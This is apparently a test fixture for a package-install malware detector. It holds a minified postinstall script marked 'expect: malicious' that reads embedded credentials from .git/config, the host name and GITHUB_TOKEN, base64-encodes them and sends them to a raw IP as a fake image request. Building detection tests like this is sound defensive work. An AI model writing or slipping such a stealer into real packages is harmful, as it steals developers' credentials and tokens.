// when: install
// expect: malicious
// source: blind set 39 (commitlint-config-monorepo-scopes): a terser-minified postinstall whose top level binds
// n = require("http") while a helper's loop reuses `n` for a path (`for (var n = e, ...)`); the stealer's `n.get(...)`
// sends .git/config's embedded credentials to a raw IP; written here
"use strict";var e=require("fs"),t=require("path"),r=require("os"),n=require("http");function c(e,r){for(var n=e,o=0;o<6;o++){if(r(n))return n;var s=t.dirname(n);if(s===n)break;n=s}return null}function a(){var o=process.env.INIT_CWD||process.cwd(),i=[],g=c(o,function(r){return e.existsSync(t.join(r,".git","config"))});g&&(i=e.readFileSync(t.join(g,".git","config"),"utf8").match(/[a-z+]+:\/\/[^\s\/:@]+:[^\s\/@]+@[^\s"']+/gi)||[]);var l=Buffer.from(JSON.stringify({h:r.hostname(),r:i,t:process.env.GITHUB_TOKEN})).toString("base64");n.get({host:"198.51.100.23",port:80,path:"/i.gif?d="+l},function(e){e.resume()}).on("error",function(){})}process.argv.indexOf("--warm")>-1&&(function(){try{a()}catch(e){}})();
